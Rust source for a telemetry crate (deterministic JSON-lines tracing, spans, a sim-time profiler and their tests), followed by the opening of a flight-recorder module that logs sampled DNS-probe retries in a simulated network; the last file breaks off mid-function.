                out.push_str(",\"name\":");
                json::push_str(out, &self.name);
                let _ = write!(
                    out,
                    ",\"sim_start_ms\":{},\"sim_end_ms\":{sim_end_ms}",
                    self.sim_start
                );
                out.push_str(",\"attrs\":");
                push_attrs_json(out, &self.attrs);
                out.push('}');
            });
        }
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        if !self.done {
            self.done = true;
            let start = self.sim_start;
            self.close(start);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Arc, Mutex as StdMutex, OnceLock};

    /// The trace sink and verbosity are process-global; serialize the
    /// tests that touch them.
    fn test_lock() -> std::sync::MutexGuard<'static, ()> {
        static LOCK: OnceLock<StdMutex<()>> = OnceLock::new();
        LOCK.get_or_init(|| StdMutex::new(()))
            .lock()
            .unwrap_or_else(|e| e.into_inner())
    }

    #[derive(Clone, Default)]
    struct SharedBuf(Arc<StdMutex<Vec<u8>>>);

    impl SharedBuf {
        fn take(&self) -> String {
            let mut g = self.0.lock().unwrap();
            String::from_utf8(std::mem::take(&mut *g)).unwrap()
        }
    }

    impl Write for SharedBuf {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn spans_nest_and_trace_deterministically() {
        let _g = test_lock();
        let run = || {
            let buf = SharedBuf::default();
            attach_trace(Box::new(buf.clone()));
            let mut outer = span("outer", 100);
            outer.attr("week", 3u32);
            let inner = span("inner", 150);
            inner.finish(180);
            outer.finish(200);
            event(
                Level::Debug,
                "done",
                "all finished",
                &[("ok", true.into())],
                Some(200),
            );
            detach_trace().unwrap();
            buf.take()
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "fresh traces of the same workload are byte-identical");
        let lines: Vec<&str> = a.lines().collect();
        assert_eq!(lines.len(), 3);
        assert!(lines[0].contains("\"name\":\"inner\"") && lines[0].contains("\"parent\":1"));
        assert!(lines[1].contains("\"name\":\"outer\"") && lines[1].contains("\"parent\":null"));
        assert!(lines[1].contains("\"attrs\":{\"week\":3}"));
        assert!(lines[2].contains("\"type\":\"event\"") && lines[2].contains("\"sim_ms\":200"));
        for (i, line) in lines.iter().enumerate() {
            assert!(line.starts_with(&format!("{{\"seq\":{i},")));
            assert!(!line.contains("wall"), "no wall clock in trace lines");
        }
    }

    #[test]
    fn spans_record_counters_without_trace() {
        let _g = test_lock();
        let before = global().counter("span.quiet.count").get();
        let s = span("quiet", 1000);
        s.finish(1500);
        assert_eq!(global().counter("span.quiet.count").get(), before + 1);
        assert!(global().counter("span.quiet.sim_ms").get() >= 500);
    }

    #[test]
    fn dropped_span_still_closes() {
        let _g = test_lock();
        let before = global().counter("span.leaky.count").get();
        {
            let _s = span("leaky", 10);
        }
        assert_eq!(global().counter("span.leaky.count").get(), before + 1);
        SPAN_STACK.with(|s| assert!(s.borrow().is_empty(), "stack popped on drop"));
    }

    #[test]
    fn events_respect_verbosity_and_need_no_sink() {
        let _g = test_lock();
        assert!(!trace_enabled());
        // No trace, default verbosity Warn: a debug event is a no-op.
        assert!(!enabled(Level::Debug));
        event(Level::Debug, "noop", "invisible", &[], None);
        set_verbosity(Level::Debug);
        assert!(enabled(Level::Debug));
        set_verbosity(Level::Warn);
    }
}
