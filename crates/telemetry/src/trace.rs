//! Spans, events, verbosity, and the JSON-lines trace exporter.
//!
//! The trace stream is designed to be byte-stable across seeded runs:
//! every line carries only deterministic fields (sequence number, span
//! id/parent, names, **sim** times, caller attributes). Wall-clock
//! durations are measured but surface only as `span.<name>.wall_us`
//! counters in the metrics snapshot, never in the trace.

use crate::json;
use crate::registry::global;
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::{self, Write};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicU8, Ordering};
use std::sync::Mutex;
use std::time::Instant;

// ---------------------------------------------------------------- verbosity

/// Event severity, also the verbosity threshold for stderr logging.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Unrecoverable or data-loss conditions. Always printed.
    Error = 0,
    /// Suspicious but survivable conditions.
    Warn = 1,
    /// Progress and campaign milestones (the old `eprintln!` lines).
    Info = 2,
    /// Per-phase detail.
    Debug = 3,
}

impl Level {
    fn as_str(self) -> &'static str {
        match self {
            Level::Error => "error",
            Level::Warn => "warn",
            Level::Info => "info",
            Level::Debug => "debug",
        }
    }
}

/// Default: warnings and errors only, so library consumers (tests,
/// benches) stay quiet. The `repro` CLI raises this to `Info`.
static VERBOSITY: AtomicU8 = AtomicU8::new(Level::Warn as u8);

/// Sets the stderr verbosity threshold.
pub fn set_verbosity(level: Level) {
    VERBOSITY.store(level as u8, Ordering::Relaxed);
}

/// The current stderr verbosity threshold.
pub fn verbosity() -> Level {
    match VERBOSITY.load(Ordering::Relaxed) {
        0 => Level::Error,
        1 => Level::Warn,
        2 => Level::Info,
        _ => Level::Debug,
    }
}

/// True if an event at `level` would be emitted anywhere (stderr or
/// trace) — lets callers skip building attributes entirely.
pub fn enabled(level: Level) -> bool {
    level <= verbosity() || trace_enabled()
}

// -------------------------------------------------------------- trace sink

static TRACE_ON: AtomicBool = AtomicBool::new(false);
static TRACE: Mutex<Option<Sink>> = Mutex::new(None);
/// Span-id source. Reset on [`attach_trace`] so seeded runs that each
/// attach a fresh trace assign identical ids.
static NEXT_ID: AtomicU64 = AtomicU64::new(1);

struct Sink {
    w: Box<dyn Write + Send>,
    seq: u64,
}

/// Attaches a JSON-lines trace writer, replacing any previous one.
/// Resets the line sequence and span-id counters, so traces of
/// identical seeded workloads are byte-identical.
pub fn attach_trace(w: Box<dyn Write + Send>) {
    let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
    *g = Some(Sink { w, seq: 0 });
    NEXT_ID.store(1, Ordering::SeqCst);
    TRACE_ON.store(true, Ordering::SeqCst);
}

/// Detaches the trace writer, flushing it first. A no-op without one.
pub fn detach_trace() -> io::Result<()> {
    let sink = {
        let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
        TRACE_ON.store(false, Ordering::SeqCst);
        g.take()
    };
    match sink {
        Some(mut s) => s.w.flush(),
        None => Ok(()),
    }
}

/// True while a trace writer is attached (one relaxed load).
#[inline]
pub fn trace_enabled() -> bool {
    TRACE_ON.load(Ordering::Relaxed)
}

/// Writes one trace line; `build` receives the line's sequence number.
fn emit_line(build: impl FnOnce(u64, &mut String)) {
    let mut g = TRACE.lock().unwrap_or_else(|e| e.into_inner());
    if let Some(sink) = g.as_mut() {
        let seq = sink.seq;
        sink.seq += 1;
        let mut line = String::with_capacity(160);
        build(seq, &mut line);
        line.push('\n');
        let _ = sink.w.write_all(line.as_bytes());
    }
}

// ------------------------------------------------------------- attributes

/// An attribute value on an event or span.
#[derive(Clone, Debug, PartialEq)]
pub enum Value {
    /// Unsigned integer.
    U64(u64),
    /// Signed integer.
    I64(i64),
    /// Float (non-finite values render as JSON `null`).
    F64(f64),
    /// String.
    Str(String),
    /// Boolean.
    Bool(bool),
}

impl Value {
    fn push_json(&self, out: &mut String) {
        match self {
            Value::U64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::I64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::F64(v) => json::push_f64(out, *v),
            Value::Str(s) => json::push_str(out, s),
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
        }
    }

    fn push_plain(&self, out: &mut String) {
        match self {
            Value::U64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::I64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::F64(v) => {
                let _ = write!(out, "{v}");
            }
            Value::Str(s) => out.push_str(s),
            Value::Bool(b) => {
                let _ = write!(out, "{b}");
            }
        }
    }
}

impl From<u64> for Value {
    fn from(v: u64) -> Value {
        Value::U64(v)
    }
}
impl From<u32> for Value {
    fn from(v: u32) -> Value {
        Value::U64(v as u64)
    }
}
impl From<usize> for Value {
    fn from(v: usize) -> Value {
        Value::U64(v as u64)
    }
}
impl From<i64> for Value {
    fn from(v: i64) -> Value {
        Value::I64(v)
    }
}
impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::F64(v)
    }
}
impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::Str(v.to_string())
    }
}
impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::Str(v)
    }
}
impl From<bool> for Value {
    fn from(v: bool) -> Value {
        Value::Bool(v)
    }
}

fn push_attrs_json(out: &mut String, attrs: &[(impl AsRef<str>, Value)]) {
    out.push('{');
    for (i, (k, v)) in attrs.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        json::push_str(out, k.as_ref());
        out.push(':');
        v.push_json(out);
    }
    out.push('}');
}

// ------------------------------------------------------------------ events

/// Emits an event: to stderr when `level` clears the verbosity
/// threshold, and to the trace stream when one is attached. `sim_ms`
/// is the simulated clock, when the caller has one.
pub fn event(level: Level, name: &str, msg: &str, attrs: &[(&str, Value)], sim_ms: Option<u64>) {
    let to_stderr = level <= verbosity();
    let to_trace = trace_enabled();
    if !to_stderr && !to_trace {
        return;
    }
    if to_stderr {
        let mut line = String::with_capacity(96);
        let _ = write!(line, "[{:5}] {name}: {msg}", level.as_str());
        for (k, v) in attrs {
            let _ = write!(line, " {k}=");
            v.push_plain(&mut line);
        }
        if let Some(t) = sim_ms {
            let _ = write!(line, " sim_ms={t}");
        }
        eprintln!("{line}");
    }
    if to_trace {
        emit_line(|seq, out| {
            let _ = write!(out, "{{\"seq\":{seq},\"type\":\"event\",\"level\":");
            json::push_str(out, level.as_str());
            out.push_str(",\"name\":");
            json::push_str(out, name);
            out.push_str(",\"msg\":");
            json::push_str(out, msg);
            match sim_ms {
                Some(t) => {
                    let _ = write!(out, ",\"sim_ms\":{t}");
                }
                None => out.push_str(",\"sim_ms\":null"),
            }
            out.push_str(",\"attrs\":");
            push_attrs_json(out, attrs);
            out.push('}');
        });
    }
}

// ------------------------------------------------------------------- spans

thread_local! {
    static SPAN_STACK: RefCell<Vec<Frame>> = const { RefCell::new(Vec::new()) };
}

/// One open span on this thread's stack: enough to attribute child
/// sim-time to parents and to reconstruct the folded call path.
struct Frame {
    id: u64,
    name: String,
    child_sim_ms: u64,
}

/// An open interval in both clocks. Create with [`span`], close with
/// [`Span::finish`] passing the simulated end time; dropping an
/// unfinished span closes it at its own start time. Spans nest
/// per-thread (LIFO): a span opened while another is open records it
/// as its parent.
pub struct Span {
    id: u64,
    parent: Option<u64>,
    name: String,
    sim_start: u64,
    wall_start: Instant,
    attrs: Vec<(String, Value)>,
    done: bool,
    quiet: bool,
}

/// Opens a span at simulated time `sim_start_ms`.
pub fn span(name: &str, sim_start_ms: u64) -> Span {
    new_span(name, sim_start_ms, false)
}

/// Opens a *quiet* span: it nests, feeds the `span.<name>.*` counters
/// and the profiler exactly like [`span`], but never writes a trace
/// line. Use it in code that may run on rayon worker threads, where
/// trace emission order would be scheduler-dependent and break the
/// trace byte-stability contract.
pub fn span_quiet(name: &str, sim_start_ms: u64) -> Span {
    new_span(name, sim_start_ms, true)
}

fn new_span(name: &str, sim_start_ms: u64, quiet: bool) -> Span {
    let id = NEXT_ID.fetch_add(1, Ordering::Relaxed);
    let parent = SPAN_STACK.with(|s| {
        let mut s = s.borrow_mut();
        let parent = s.last().map(|f| f.id);
        s.push(Frame {
            id,
            name: name.to_string(),
            child_sim_ms: 0,
        });
        parent
    });
    Span {
        id,
        parent,
        name: name.to_string(),
        sim_start: sim_start_ms,
        wall_start: Instant::now(),
        attrs: Vec::new(),
        done: false,
        quiet,
    }
}

impl Span {
    /// Attaches a key/value pair, reported in insertion order.
    pub fn attr(&mut self, key: &str, value: impl Into<Value>) {
        self.attrs.push((key.to_string(), value.into()));
    }

    /// Closes the span at simulated time `sim_end_ms`: records the
    /// `span.<name>.{count,sim_ms,wall_us}` counters and emits one
    /// trace line when a trace is attached.
    pub fn finish(mut self, sim_end_ms: u64) {
        self.done = true;
        self.close(sim_end_ms);
    }

    fn close(&mut self, sim_end_ms: u64) {
        let sim_ms = sim_end_ms.saturating_sub(self.sim_start);
        // Pop our frame, credit our total to the parent's child-time,
        // and (when profiling) capture the folded ancestor path while
        // the ancestors are still on the stack.
        let (child_ms, path) = SPAN_STACK.with(|s| {
            let mut s = s.borrow_mut();
            match s.iter().rposition(|f| f.id == self.id) {
                Some(pos) => {
                    let path = profiling_enabled().then(|| {
                        let mut p = String::new();
                        for f in &s[..pos] {
                            p.push_str(&f.name);
                            p.push(';');
                        }
                        p.push_str(&self.name);
                        p
                    });
                    let frame = s.remove(pos);
                    if pos > 0 {
                        let parent = &mut s[pos - 1];
                        parent.child_sim_ms = parent.child_sim_ms.saturating_add(sim_ms);
                    }
                    (frame.child_sim_ms, path)
                }
                None => (0, profiling_enabled().then(|| self.name.clone())),
            }
        });
        let self_ms = sim_ms.saturating_sub(child_ms);
        let wall_us = self.wall_start.elapsed().as_micros() as u64;
        let reg = global();
        reg.counter(&format!("span.{}.count", self.name)).inc();
        reg.counter(&format!("span.{}.sim_ms", self.name))
            .add(sim_ms);
        reg.counter(&format!("span.{}.self_sim_ms", self.name))
            .add(self_ms);
        reg.counter(&format!("span.{}.wall_us", self.name))
            .add(wall_us);
        if let Some(path) = path {
            let mut g = PROFILE.lock().unwrap_or_else(|e| e.into_inner());
            if let Some(p) = g.as_mut() {
                *p.folded.entry(path).or_insert(0) += self_ms;
                let e = p.per_span.entry(self.name.clone()).or_default();
                e.count += 1;
                e.self_ms += self_ms;
                e.durations.push(sim_ms);
            }
        }
        if !self.quiet && trace_enabled() {
            emit_line(|seq, out| {
                let _ = write!(out, "{{\"seq\":{seq},\"type\":\"span\",\"id\":{}", self.id);
                match self.parent {
                    Some(p) => {
                        let _ = write!(out, ",\"parent\":{p}");
                    }
                    None => out.push_str(",\"parent\":null"),
                }
                out.push_str(",\"name\":");
                json::push_str(out, &self.name);
                let _ = write!(
                    out,
                    ",\"sim_start_ms\":{},\"sim_end_ms\":{sim_end_ms}",
                    self.sim_start
                );
                out.push_str(",\"attrs\":");
                push_attrs_json(out, &self.attrs);
                out.push('}');
            });
        }
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        if !self.done {
            self.done = true;
            let start = self.sim_start;
            self.close(start);
        }
    }
}

// --------------------------------------------------------------- profiler
//
// The sim-time profiler aggregates, per span close: self-time (total
// minus time attributed to child spans) keyed by the folded ancestor
// path, and the full duration distribution keyed by span name. All
// figures are *simulated* milliseconds, so profiles of seeded runs are
// deterministic — aggregation is order-independent (sums into
// `BTreeMap`s; duration vectors are sorted before quantiles), which
// keeps the output stable even when spans close on rayon workers in
// scheduler-dependent order.

static PROFILING: AtomicBool = AtomicBool::new(false);
static PROFILE: Mutex<Option<ProfileState>> = Mutex::new(None);

#[derive(Default)]
struct ProfileState {
    /// Folded call path (`a;b;c`) → accumulated self sim-ms.
    folded: BTreeMap<String, u64>,
    per_span: BTreeMap<String, PerSpan>,
}

#[derive(Default, Clone)]
struct PerSpan {
    count: u64,
    self_ms: u64,
    durations: Vec<u64>,
}

/// True while the profiler is collecting (one relaxed load).
#[inline]
pub fn profiling_enabled() -> bool {
    PROFILING.load(Ordering::Relaxed)
}

/// Starts (or restarts) sim-time profiling, discarding any prior data.
pub fn enable_profile() {
    let mut g = PROFILE.lock().unwrap_or_else(|e| e.into_inner());
    *g = Some(ProfileState::default());
    PROFILING.store(true, Ordering::SeqCst);
}

/// Stops profiling and returns what was collected, or `None` if the
/// profiler was never enabled.
pub fn take_profile() -> Option<Profile> {
    PROFILING.store(false, Ordering::SeqCst);
    let state = {
        let mut g = PROFILE.lock().unwrap_or_else(|e| e.into_inner());
        g.take()
    }?;
    let spans = state
        .per_span
        .into_iter()
        .map(|(name, p)| {
            let mut d = p.durations;
            d.sort_unstable();
            SpanProfile {
                name,
                count: p.count,
                total_sim_ms: d.iter().sum(),
                self_sim_ms: p.self_ms,
                p50: nearest_rank(&d, 0.50),
                p90: nearest_rank(&d, 0.90),
                p99: nearest_rank(&d, 0.99),
                max: d.last().copied().unwrap_or(0),
            }
        })
        .collect();
    Some(Profile {
        folded: state.folded,
        spans,
    })
}

/// Exact nearest-rank quantile over a sorted slice.
fn nearest_rank(sorted: &[u64], q: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    let rank = (q * sorted.len() as f64).ceil() as usize;
    sorted[rank.clamp(1, sorted.len()) - 1]
}

/// Per-span-name sim-time statistics (exact, from every close).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanProfile {
    /// Span name.
    pub name: String,
    /// Number of closes.
    pub count: u64,
    /// Sum of total durations (sim-ms).
    pub total_sim_ms: u64,
    /// Sum of self time: total minus child-span time (sim-ms).
    pub self_sim_ms: u64,
    /// Exact nearest-rank quantiles of the duration distribution.
    pub p50: u64,
    /// 90th percentile.
    pub p90: u64,
    /// 99th percentile.
    pub p99: u64,
    /// Largest single duration.
    pub max: u64,
}

/// A finished sim-time profile: folded stacks plus per-span stats.
#[derive(Debug, Clone)]
pub struct Profile {
    folded: BTreeMap<String, u64>,
    spans: Vec<SpanProfile>,
}

impl Profile {
    /// Per-span-name statistics, sorted by name.
    pub fn spans(&self) -> &[SpanProfile] {
        &self.spans
    }

    /// The folded-stack map: `path -> self sim-ms`.
    pub fn folded(&self) -> &BTreeMap<String, u64> {
        &self.folded
    }

    /// Renders the flamegraph "folded" format: one `path value` line
    /// per stack, value = self sim-ms. Feed straight into
    /// `flamegraph.pl` or any compatible renderer.
    pub fn folded_text(&self) -> String {
        let mut out = String::new();
        for (path, ms) in &self.folded {
            let _ = writeln!(out, "{path} {ms}");
        }
        out
    }

    /// Human-readable per-span summary with exact sim-time quantiles.
    pub fn summary_table(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{:<28} {:>7} {:>12} {:>12} {:>9} {:>9} {:>9} {:>9}",
            "span", "count", "total_sim_ms", "self_sim_ms", "p50", "p90", "p99", "max"
        );
        for s in &self.spans {
            let _ = writeln!(
                out,
                "{:<28} {:>7} {:>12} {:>12} {:>9} {:>9} {:>9} {:>9}",
                s.name, s.count, s.total_sim_ms, s.self_sim_ms, s.p50, s.p90, s.p99, s.max
            );
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Arc, Mutex as StdMutex, OnceLock};

    /// The trace sink and verbosity are process-global; serialize the
    /// tests that touch them.
    fn test_lock() -> std::sync::MutexGuard<'static, ()> {
        static LOCK: OnceLock<StdMutex<()>> = OnceLock::new();
        LOCK.get_or_init(|| StdMutex::new(()))
            .lock()
            .unwrap_or_else(|e| e.into_inner())
    }

    #[derive(Clone, Default)]
    struct SharedBuf(Arc<StdMutex<Vec<u8>>>);

    impl SharedBuf {
        fn take(&self) -> String {
            let mut g = self.0.lock().unwrap();
            String::from_utf8(std::mem::take(&mut *g)).unwrap()
        }
    }

    impl Write for SharedBuf {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn spans_nest_and_trace_deterministically() {
        let _g = test_lock();
        let run = || {
            let buf = SharedBuf::default();
            attach_trace(Box::new(buf.clone()));
            let mut outer = span("outer", 100);
            outer.attr("week", 3u32);
            let inner = span("inner", 150);
            inner.finish(180);
            outer.finish(200);
            event(
                Level::Debug,
                "done",
                "all finished",
                &[("ok", true.into())],
                Some(200),
            );
            detach_trace().unwrap();
            buf.take()
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "fresh traces of the same workload are byte-identical");
        let lines: Vec<&str> = a.lines().collect();
        assert_eq!(lines.len(), 3);
        assert!(lines[0].contains("\"name\":\"inner\"") && lines[0].contains("\"parent\":1"));
        assert!(lines[1].contains("\"name\":\"outer\"") && lines[1].contains("\"parent\":null"));
        assert!(lines[1].contains("\"attrs\":{\"week\":3}"));
        assert!(lines[2].contains("\"type\":\"event\"") && lines[2].contains("\"sim_ms\":200"));
        for (i, line) in lines.iter().enumerate() {
            assert!(line.starts_with(&format!("{{\"seq\":{i},")));
            assert!(!line.contains("wall"), "no wall clock in trace lines");
        }
    }

    #[test]
    fn spans_record_counters_without_trace() {
        let _g = test_lock();
        let before = global().counter("span.quiet.count").get();
        let s = span("quiet", 1000);
        s.finish(1500);
        assert_eq!(global().counter("span.quiet.count").get(), before + 1);
        assert!(global().counter("span.quiet.sim_ms").get() >= 500);
    }

    #[test]
    fn dropped_span_still_closes() {
        let _g = test_lock();
        let before = global().counter("span.leaky.count").get();
        {
            let _s = span("leaky", 10);
        }
        assert_eq!(global().counter("span.leaky.count").get(), before + 1);
        SPAN_STACK.with(|s| assert!(s.borrow().is_empty(), "stack popped on drop"));
    }

    #[test]
    fn profiler_attributes_self_time_and_folds_stacks() {
        let _g = test_lock();
        enable_profile();
        let outer = span("p_outer", 0);
        let inner = span("p_inner", 100);
        inner.finish(400); // inner total 300
        let inner2 = span("p_inner", 400);
        inner2.finish(500); // inner total 100
        outer.finish(1000); // outer total 1000, self 1000-400=600
        let prof = take_profile().expect("profile collected");
        assert!(!profiling_enabled());
        let folded = prof.folded_text();
        assert!(folded.contains("p_outer 600\n"), "folded:\n{folded}");
        assert!(
            folded.contains("p_outer;p_inner 400\n"),
            "folded:\n{folded}"
        );
        let inner_stats = prof
            .spans()
            .iter()
            .find(|s| s.name == "p_inner")
            .unwrap()
            .clone();
        assert_eq!(inner_stats.count, 2);
        assert_eq!(inner_stats.total_sim_ms, 400);
        assert_eq!(inner_stats.self_sim_ms, 400);
        assert_eq!((inner_stats.p50, inner_stats.max), (100, 300));
        let outer_stats = prof.spans().iter().find(|s| s.name == "p_outer").unwrap();
        assert_eq!(outer_stats.self_sim_ms, 600);
        assert_eq!(outer_stats.p99, 1000);
    }

    #[test]
    fn quiet_spans_feed_counters_but_not_the_trace() {
        let _g = test_lock();
        let buf = SharedBuf::default();
        attach_trace(Box::new(buf.clone()));
        let before = global().counter("span.hush.count").get();
        let s = span_quiet("hush", 10);
        s.finish(60);
        detach_trace().unwrap();
        assert_eq!(global().counter("span.hush.count").get(), before + 1);
        assert!(global().counter("span.hush.self_sim_ms").get() >= 50);
        assert_eq!(buf.take(), "", "quiet span emitted no trace line");
    }

    #[test]
    fn nearest_rank_quantiles_are_exact() {
        let d: Vec<u64> = (1..=100).collect();
        assert_eq!(nearest_rank(&d, 0.50), 50);
        assert_eq!(nearest_rank(&d, 0.90), 90);
        assert_eq!(nearest_rank(&d, 0.99), 99);
        assert_eq!(nearest_rank(&[7], 0.50), 7);
        assert_eq!(nearest_rank(&[], 0.99), 0);
    }

    #[test]
    fn events_respect_verbosity_and_need_no_sink() {
        let _g = test_lock();
        assert!(!trace_enabled());
        // No trace, default verbosity Warn: a debug event is a no-op.
        assert!(!enabled(Level::Debug));
        event(Level::Debug, "noop", "invisible", &[], None);
        set_verbosity(Level::Debug);
        assert!(enabled(Level::Debug));
        set_verbosity(Level::Warn);
    }
}
