//! The flight recorder: a bounded, deterministic-sampling ring buffer
//! of causality-linked probe records.
//!
//! Retrying campaigns record the full life of every sampled probe —
//! attempt sent → backoff decision → fault/loss drop (tagged by the
//! network layer with the responsible fault kind) → response rcode or
//! final give-up — so "why did this resolver need three retries?" is
//! answerable after the run from the persisted stream alone.
//!
//! # Causality without plumbing
//!
//! The scanner knows the campaign and attempt number; the network
//! layer knows why a datagram died. Neither API mentions the other:
//! the scanner publishes a thread-local *probe context*
//! ([`set_context`]) around its send/pump phases, and the network's
//! drop paths read it back when recording. This is sound because each
//! world's simulation is single-threaded — the event loop runs on the
//! thread that issued the sends.
//!
//! # Determinism contract
//!
//! * Records carry only simulated time and deterministic fields, and
//!   sequence numbers are assigned in simulation order — two runs of
//!   the same seeded workload produce byte-identical streams.
//! * Sampling is keyed on `hash(sample_seed, target_ip)` compared
//!   against the rate, so a probe's records are all-or-none: a target
//!   is either fully recorded across every campaign or not at all,
//!   and rate `1.0` records everything.
//! * The ring is bounded: when full, the oldest records are
//!   overwritten (deterministically, since arrival order is
//!   deterministic) and the overwrite count is reported.
//!
//! # Cost when disabled
//!
//! Every entry point is gated on one relaxed atomic load; with the
//! recorder disabled the scan pipeline's behaviour and output are
//! byte-identical to a build without the recorder.

use std::cell::Cell;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;

/// What one [`ProbeRecord`] describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum RecordKind {
    /// A probe (or re-probe) was sent. `attempt` is 1-based.
    Attempt = 0,
    /// The retry engine chose a backoff wait for a retransmission
    /// round. `value` is the wait in sim-ms; `ip` is 0 when the
    /// decision is campaign-wide.
    Backoff = 1,
    /// The network dropped a datagram of this probe; `reason` names
    /// the responsible fault (burst/outage/flap/rate_limit/loss).
    Drop = 2,
    /// A response arrived; `value` is the DNS rcode.
    Response = 3,
    /// Every attempt was exhausted without an answer; `value` is the
    /// number of attempts spent.
    GaveUp = 4,
}

impl RecordKind {
    /// Stable wire tag.
    pub fn to_u8(self) -> u8 {
        self as u8
    }

    /// Inverse of [`RecordKind::to_u8`].
    pub fn from_u8(v: u8) -> Option<RecordKind> {
        Some(match v {
            0 => RecordKind::Attempt,
            1 => RecordKind::Backoff,
            2 => RecordKind::Drop,
            3 => RecordKind::Response,
            4 => RecordKind::GaveUp,
            _ => return None,
        })
    }

    /// Human-readable name, used by `repro trace`.
    pub fn as_str(self) -> &'static str {
        match self {
            RecordKind::Attempt => "attempt",
            RecordKind::Backoff => "backoff",
            RecordKind::Drop => "drop",
            RecordKind::Response => "response",
            RecordKind::GaveUp => "gave_up",
        }
    }
}

/// One causality-linked record of a probe's life.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProbeRecord {
    /// Global sequence number in simulation order.
    pub seq: u64,
    /// Simulated time in milliseconds.
    pub t_ms: u64,
    /// What happened.
    pub kind: RecordKind,
    /// Owning campaign (`"churn"`, `"chaos"`, …).
    pub campaign: &'static str,
    /// Target resolver address (`u32::from(Ipv4Addr)`), 0 when the
    /// record is campaign-wide (shared backoff schedules).
    pub ip: u32,
    /// Target's autonomous system, when the scanner knows it (attempt
    /// records); 0 otherwise.
    pub asn: u32,
    /// 1-based attempt number this record belongs to.
    pub attempt: u32,
    /// Kind-specific value (wait ms / rcode / attempts spent).
    pub value: u64,
    /// Drop reason, `""` for non-drop records.
    pub reason: &'static str,
}

/// Default ring capacity: ~4M records, far above what the retrying
/// campaigns emit at reproduction scales.
pub const DEFAULT_CAPACITY: usize = 1 << 22;

static ENABLED: AtomicBool = AtomicBool::new(false);
static STATE: Mutex<Option<State>> = Mutex::new(None);

struct State {
    ring: Vec<ProbeRecord>,
    /// Next overwrite position once `ring.len() == cap`.
    head: usize,
    cap: usize,
    next_seq: u64,
    /// Sampling threshold: record when `hash <= threshold`.
    threshold: u64,
    seed: u64,
    overwritten: u64,
}

thread_local! {
    /// The issuing campaign and current attempt number, published by
    /// the scanner around its send/pump phases.
    static CONTEXT: Cell<Option<(&'static str, u32)>> = const { Cell::new(None) };
}

/// Recorder occupancy counters, for the end-of-run summary.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RecorderStats {
    /// Records currently buffered.
    pub buffered: u64,
    /// Records assigned so far (monotone).
    pub recorded: u64,
    /// Oldest records lost to ring overwrite.
    pub overwritten: u64,
}

/// Turns the recorder on with sampling `rate` in `[0, 1]`, a sampling
/// seed, and a ring `capacity`. Resets sequence numbers and drops any
/// buffered records, so seeded reruns produce identical streams.
pub fn enable(rate: f64, seed: u64, capacity: usize) {
    let rate = rate.clamp(0.0, 1.0);
    let threshold = if rate >= 1.0 {
        u64::MAX
    } else {
        (rate * u64::MAX as f64) as u64
    };
    let mut g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    *g = Some(State {
        ring: Vec::new(),
        head: 0,
        cap: capacity.max(1),
        next_seq: 0,
        threshold,
        seed,
        overwritten: 0,
    });
    ENABLED.store(true, Ordering::SeqCst);
}

/// Turns the recorder off and discards any buffered records.
pub fn disable() {
    ENABLED.store(false, Ordering::SeqCst);
    let mut g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    *g = None;
}

/// True while the recorder is on (one relaxed load).
#[inline]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

/// Publishes the issuing campaign and attempt number for subsequent
/// sends on this thread. A no-op when the recorder is off.
pub fn set_context(campaign: &'static str, attempt: u32) {
    if enabled() {
        CONTEXT.with(|c| c.set(Some((campaign, attempt))));
    }
}

/// Clears the probe context.
pub fn clear_context() {
    CONTEXT.with(|c| c.set(None));
}

/// Deterministic sampling decision for a target: all-or-none per IP.
pub fn sampled(ip: u32) -> bool {
    if !enabled() {
        return false;
    }
    let g = STATE.lock().unwrap_or_else(|e| e.into_inner());
    match g.as_ref() {
        Some(s) => sample_hit(s, ip),
        None => false,
    }
}

/// Hash channel decorrelating sampling from every other seeded hash.
const SAMPLE_CHANNEL: u64 = 0x5A301E;

fn sample_hit(s: &State, ip: u32) -> bool {
    mix64(s.seed, SAMPLE_CHANNEL, ip as u64) <= s.threshold
}

fn push(s: &mut State, mut rec: ProbeRecord) {
    rec.seq = s.next_seq;
    s.next_seq += 1;
    if s.ring.len() < s.cap {
        s.ring.push(rec);
    } else {
        s.ring[s.head] = rec;
        s.head = (s.head + 1) % s.cap;
        s.overwritten += 1;
    }
}

fn record(kind: RecordKind, ip: u32, asn: u32, value: u64, reason: &'static str, t_ms: u64) {
    let Some((campaign, attempt)) = CONTEXT.with(|c| c.get()) else {
        return;
    };
